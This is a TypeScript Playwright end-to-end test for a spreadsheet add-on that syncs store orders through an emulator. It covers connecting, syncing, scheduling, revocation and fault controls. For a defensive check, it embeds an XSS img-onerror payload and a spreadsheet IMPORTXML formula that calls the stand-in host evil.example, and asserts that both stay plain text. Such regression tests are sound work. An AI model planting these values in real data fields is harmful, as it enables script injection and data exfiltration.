/**
 * End to end in real Chromium: the playground (emulator + local runtime + built add-on) started in
 * this process. Connect through the emulator's consent page, sync, compare with the emulator's
 * truth, revoke, and check that hostile text stays text.
 */
import path from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Playground } from '../../dev/playground/app';
import type { WorkbookView } from '../../dev/playground/workbook-view';
import type { Stack } from '../../dev/harness/index';
import { browserReady, NOT_READY, openSidebar, SCREENSHOTS, type SidebarSession } from './sidebar-session';

const HOSTILE_UTM = '<img src=x onerror="window.__pwned=1">spring';
const FORMULA_UTM = '=IMPORTXML("http://evil.example/","//a")';

async function getJson<T>(url: string): Promise<T> {
  const response = await fetch(url);
  if (!response.ok) throw new Error(`GET ${url}: HTTP ${response.status}`);
  return (await response.json()) as T;
}

describe.skipIf(!browserReady)('playground end to end (Chromium, emulator, local runtime)', () => {
  let session: SidebarSession;
  let stack: Stack;
  let playground: Playground;
  let page: Page;
  let sidebar: Frame;
  let store: { id: string; name: string; shop_domain: string };
  let hostileOrderId: string;

  beforeAll(async () => {
    // Few enough orders that every row is inside the page's 200-row preview.
    session = await openSidebar({ orders: 150, seed: 11, plan: 'plus' });
    ({ stack, playground, page, sidebar } = session);
    store = (await getJson<{ store: typeof store }>(`${stack.apiUrl}/_emulator/truth/store`)).store;
    const truth = await getJson<{ data: Array<{ id: string }> }>(
      `${stack.apiUrl}/_emulator/truth/orders?store=${encodeURIComponent(store.id)}`,
    );
    hostileOrderId = truth.data[0]!.id;
    await stack.control(`/_emulator/orders/${hostileOrderId}/patch`, {
      attribution: { utm_campaign: HOSTILE_UTM, utm_source: FORMULA_UTM },
    });
  }, 120_000);

  afterAll(async () => {
    await session?.close();
  });

  it('Connect opens the consent page in a new window; approving the store connects the sidebar', async () => {
    await sidebar.waitForSelector('#connect:not([hidden])');
    expect(await sidebar.textContent('#connection-text')).toBe('Not connected');
    const [popup] = await Promise.all([page.waitForEvent('popup'), sidebar.click('#connect')]);
    await popup.waitForSelector('form#consent');
    await popup.check(`input[name="store_id"][value="${store.id}"]`);
    await Promise.all([popup.waitForURL(/\/usercallback/), popup.click('button[value="approve"]')]);
    const callbackText = (await popup.textContent('body')) ?? '';
    expect(callbackText).toMatch(/connected/i);
    await popup.close();
    await sidebar.waitForFunction(
      () => document.querySelector('#connection-text')?.textContent === 'Connected',
      undefined,
      { timeout: 30_000 },
    );
    expect(await sidebar.textContent('#store-name')).toBe(store.name);
    expect(await sidebar.textContent('#store-domain')).toBe(`(${store.shop_domain})`);
    expect(await sidebar.textContent('#plan-window')).toBe('Plus plan: full history');
    expect(await sidebar.isVisible('#schedule-hour-row')).toBe(false); // schedule off: no hour to pick
    expect(await sidebar.isVisible('#sync-now')).toBe(true);
  }, 60_000);

  it('Sync now runs to the end with a progress bar; the Orders sheet has the truth row count', async () => {
    await sidebar.click('#sync-now');
    await sidebar.waitForSelector('#progress:not([hidden])');
    expect(await sidebar.isDisabled('#disconnect')).toBe(true);
    await sidebar.waitForFunction(
      () => document.querySelector('#status')?.textContent === 'Sync finished.',
      undefined,
      { timeout: 150_000 },
    );
    expect(await sidebar.getAttribute('#progress', 'aria-valuenow')).toBe('100');
    expect(await sidebar.isVisible('#problem')).toBe(false);
    const truth = await getJson<{ data: unknown[] }>(
      `${stack.apiUrl}/_emulator/truth/orders?store=${encodeURIComponent(store.id)}`,
    );
    const workbook = await getJson<WorkbookView>(`${playground.url}playground/workbook`);
    const orders = workbook.sheets.find((s) => s.name === 'Orders');
    expect(orders).toBeDefined();
    expect(orders!.totalRows - 1).toBe(truth.data.length);
    expect(await sidebar.textContent('#jobs')).toMatch(/Orders: [\d,]+ new/);
    // The page shows the Orders sheet once it exists, not the empty Sheet1 it showed before the sync.
    await page.waitForSelector('#tabs button[aria-selected="true"]:has-text("Orders")');
    expect(await page.textContent('#sheet-info')).toMatch(/^Orders: \d+ data rows/);
    await sidebar.locator('main').screenshot({ path: path.join(SCREENSHOTS, 'sidebar-synced.png') });
  }, 180_000);

  it('hostile order text reaches the sheet and the page as text, never as HTML or a formula', async () => {
    const rows = stack.runtime.exportJson().sheets['Orders']!;
    const header = rows[0]!.map(String);
    const rowIndex = rows.findIndex((r) => r[header.indexOf('id')] === hostileOrderId);
    const row = rows[rowIndex];
    expect(row?.[header.indexOf('utm_campaign')]).toBe(HOSTILE_UTM);
    expect(row?.[header.indexOf('utm_source')]).toBe(FORMULA_UTM);
    await page.click('#tabs button:has-text("Orders")');
    await page.fill('#goto-row', String(rowIndex + 1));
    await page.click('#goto-form button[type="submit"]');
    const cell = page.locator(
      `#grid .g-c[data-row="${rowIndex + 1}"][data-column="${header.indexOf('utm_campaign') + 1}"]`,
    );
    await expect.poll(() => cell.textContent()).toBe(HOSTILE_UTM);
    expect(await page.locator('#grid img').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await page.screenshot({ path: path.join(SCREENSHOTS, 'playground.png') });
  }, 30_000);

  it('a daily schedule creates one time-driven trigger, and the playground fires it', async () => {
    await sidebar.selectOption('#schedule-mode', 'daily');
    await sidebar.selectOption('#schedule-hour', '7');
    await sidebar.click('#schedule-save');
    // The hour is the spreadsheet's: the status names its time zone.
    await sidebar.waitForFunction(() =>
      /^Syncs every day at 07:00, \S+ time \(the spreadsheet's time zone\)\.$/.test(
        document.querySelector('#status')?.textContent ?? '',
      ),
    );
    const clock = stack.runtime.triggers.filter((t) => t.type === 'CLOCK');
    expect(clock).toHaveLength(1);
    expect(clock[0]).toMatchObject({ atHour: 7 });
    await page.click('#fire-trigger');
    await page.waitForFunction(() =>
      /Scheduled trigger: done/.test(document.querySelector('#control-result')?.textContent ?? ''),
    );
    await page.waitForFunction(() =>
      /^The scheduled sync ran/.test(
        (document.querySelector('#control-result')?.textContent ?? '').replace(/^Scheduled trigger: done\. /, ''),
      ),
    );
    // The Sync log panel shows the manual run and the scheduled one, newest first.
    await page.waitForFunction(() => document.querySelectorAll('#sync-log tbody tr').length === 2);
  }, 60_000);

  it('after the merchant revokes the grant, the sidebar says what happened and offers Reconnect', async () => {
    await stack.control('/_emulator/grants/revoke', {});
    await stack.advanceClocks(120_000); // revocation takes effect "within about one minute"
    // The sidebar's own look at the connection may notice first (and hide Sync now while the
    // button is being clicked); otherwise the merchant's next sync does.
    await sidebar.evaluate(() => {
      const syncNow = document.querySelector<HTMLButtonElement>('#sync-now');
      if (syncNow && syncNow.offsetParent !== null && !syncNow.disabled) syncNow.click();
    });
    await sidebar.waitForSelector('#problem:not([hidden])', { timeout: 60_000 });
    await sidebar.waitForFunction(() => document.querySelector('#status')?.classList.contains('busy') === false);
    expect(await sidebar.textContent('#problem-message')).toMatch(/turned off|disconnected/i);
    expect(await sidebar.textContent('#connection-text')).toBe('Access was revoked');
    expect(await sidebar.isVisible('#reconnect')).toBe(true);
    expect(await sidebar.isVisible('#sync-now')).toBe(false);
    expect(await sidebar.textContent('#store-name')).toBe(store.name);
    await sidebar.locator('main').screenshot({ path: path.join(SCREENSHOTS, 'sidebar-revoked.png') });
  }, 90_000);

  it('the page can disable the client and enable it again, and clear injected faults', async () => {
    const control = async (label: string) => {
      await page.click(`#controls button:has-text("${label}")`);
      await page.waitForFunction(
        (l) => (document.querySelector('#control-result')?.textContent ?? '').startsWith(`${l}: done`),
        label,
      );
    };
    await control('Disable client');
    expect(await getJson<{ disabled: boolean }>(`${stack.apiUrl}/_emulator/client`)).toMatchObject({ disabled: true });
    await control('Enable client');
    expect(await getJson<{ disabled: boolean }>(`${stack.apiUrl}/_emulator/client`)).toMatchObject({ disabled: false });
    await control('Inject');
    await control('Clear');
    expect(await page.textContent('#control-result')).toBe(
      'Clear: done. Cleared 3 pending faults: the API answers normally again.',
    );
  }, 30_000);
});

if (!browserReady) describe('playground end to end', () => it.skip(NOT_READY, () => undefined));
